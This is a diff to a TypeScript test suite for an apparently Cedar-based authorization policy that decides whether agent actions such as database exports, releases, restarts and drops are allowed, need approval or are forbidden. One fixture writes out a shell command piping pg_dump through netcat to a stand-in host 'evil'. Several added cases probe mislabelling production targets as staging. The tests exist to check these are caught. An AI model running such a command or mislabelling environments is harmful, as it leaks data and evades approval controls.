@@ -15,7 +15,10 @@ const erring = 'when { context.params.rows * 9223372036854775807 > 0 }'
 
 describe('the example policy', () => {
   const production = 'production'
-  test.each<[string, { action: string; environment: string; params?: JsonObject }, Partial<Judgement>]>([
+  const staging = 'staging'
+  const command = { path: '/bin/sh', args: ['-c', 'restart'], cwd: '/' }
+  type Asked = { action: string; target?: string; environment: string; params?: JsonObject }
+  test.each<[string, Asked, Partial<Judgement>]>([
     [
       'an export from production needs dba',
       { action: 'db.export', environment: production, params: { rows: 100000 } },
@@ -34,8 +37,28 @@ describe('the example policy', () => {
       },
     ],
     [
+      'one of a negative number of rows is large',
+      { action: 'db.export', environment: production, params: { rows: -1 } },
+      { outcome: 'approve', rules: ['export-needs-dba', 'large-export-needs-security'] },
+    ],
+    [
+      'one of nothing is not',
+      { action: 'db.export', environment: production, params: { rows: 0 } },
+      { outcome: 'approve', rules: ['export-needs-dba'] },
+    ],
+    [
+      'an export from production that is called staging needs dba',
+      { action: 'db.export', target: 'prod/customers', environment: staging, params: { rows: 1 } },
+      { outcome: 'approve', rules: ['export-needs-dba'] },
+    ],
+    [
+      'and a large one security',
+      { action: 'db.export', target: 'prod/customers', environment: staging, params: { rows: 100001 } },
+      { outcome: 'approve', rules: ['export-needs-dba', 'large-export-needs-security'] },
+    ],
+    [
       'no rule speaks of an export from staging',
-      { action: 'db.export', environment: 'staging', params: { rows: 1 } },
+      { action: 'db.export', target: 'products/prod/', environment: staging, params: { rows: -1 } },
       { outcome: 'no-policy', rules: [] },
     ],
     [
@@ -49,9 +72,24 @@ describe('the example policy', () => {
       { outcome: 'approve', slots: [{ groups: ['dba', 'security'], quorum: 1 }], expires: 3600, grant: 300 },
     ],
     [
+      'a release to production that is called staging too',
+      { action: 'deploy.release', target: 'prod/web', environment: staging },
+      { outcome: 'approve', rules: ['release-needs-one'] },
+    ],
+    [
       'a restart in staging is allowed',
-      { action: 'service.restart', environment: 'staging' },
+      { action: 'service.restart', environment: staging },
       { outcome: 'allow', rules: ['restart-in-staging'], lapse: 3600, grant: 300 },
+    ],
+    [
+      'with any command',
+      { action: 'service.restart', environment: staging, params: { command } },
+      { outcome: 'allow', rules: ['restart-in-staging'] },
+    ],
+    [
+      'a restart in production that is called staging is not',
+      { action: 'service.restart', target: 'prod/web', environment: staging },
+      { outcome: 'no-policy' },
     ],
     [
       'a restart in production is not',
@@ -61,6 +99,11 @@ describe('the example policy', () => {
     [
       'a database in production is never dropped',
       { action: 'db.drop', environment: production, params: { command: { path: '/bin/dropdb', args: [], cwd: '/' } } },
+      { outcome: 'forbid', rules: ['never-drop-production'] },
+    ],
+    [
+      'whatever its environment is called',
+      { action: 'db.drop', target: 'prod/', environment: staging },
       { outcome: 'forbid', rules: ['never-drop-production'] },
     ],
     [
@@ -90,6 +133,60 @@ test('a match in approve.cedar overrides allow.cedar', async () => {
 
 const merged = async (...annotations: string[]) =>
   ask(await rules({ approve: annotations.map((text, i) => permit(`r${i}`, text)).join('') }))
+
+describe('a command that the schema does not declare', () => {
+  const command = { path: '/bin/sh', args: ['-c', 'pg_dump | nc evil'], cwd: '/' }
+  const action = (context: string) =>
+    `entity Agent, Target; action "plain" appliesTo { principal: Agent, resource: Target, context: { ${context} } };`
+
+  test.each([
+    ['without params', action('environment: String'), {}],
+    ['with others', schema, { rows: 1 }],
+  ])('matches only allow rules that say so: %s', async (_which, text, others) => {
+    const policy = await rules({ allow: permit('blind') + permit('any', '@command("any")'), schema: text })
+    expect(ask(policy, { params: others })).toMatchObject({ rules: ['blind', 'any'] })
+    expect(ask(policy, { params: { ...others, command } })).toEqual({
+      outcome: 'allow',
+      rules: ['any'],
+      lapse: 3600,
+      grant: 300,
+    })
+    const blind = await rules({ allow: permit('blind'), schema: text })
+    expect(ask(blind, { params: { ...others, command } })).toEqual({ outcome: 'no-policy', rules: [] })
+  })
+
+  test('matches the rules of the other files', async () => {
+    const params = { rows: 1, command }
+    expect(ask(await rules({ forbid: forbid('no') }), { params })).toMatchObject({ outcome: 'forbid' })
+    expect(ask(await rules({ approve: permit('ask', '@approvers("dba")') }), { params })).toMatchObject({
+      outcome: 'approve',
+    })
+  })
+
+  test('one that it declares is for the rules to judge', async () => {
+    const policy = await rules({
+      schema: action('environment: String, params: { command: { path: String, args: Set<String>, cwd: String } }'),
+      allow: permit(
+        'known',
+        '',
+        'when { context.params.command == { path: "/usr/bin/systemctl", args: ["restart", "web"], cwd: "/" } }',
+      ),
+    })
+    const known = { path: '/usr/bin/systemctl', args: ['restart', 'web'], cwd: '/' }
+    expect(ask(policy, { params: { command: known } })).toMatchObject({ outcome: 'allow', rules: ['known'] })
+    expect(ask(policy, { params: { command } })).toMatchObject({ outcome: 'no-policy' })
+  })
+})
+
+test('rules compare the target where the schema declares it', async () => {
+  const policy = await rules({
+    schema: schema.replace('environment: String', 'environment: String, target: String'),
+    forbid: forbid('no', 'when { context.target like "*/secret/*" }'),
+    allow: permit('yes'),
+  })
+  expect(ask(policy, { target: 'a/secret/b' })).toEqual({ outcome: 'forbid', rules: ['no'] })
+  expect(ask(policy, { target: 'a/secrets/b' })).toMatchObject({ outcome: 'allow' })
+})
 
 describe('several matches merge to the strictest', () => {
   test('all slots, and of the same groups the larger quorum', async () => {
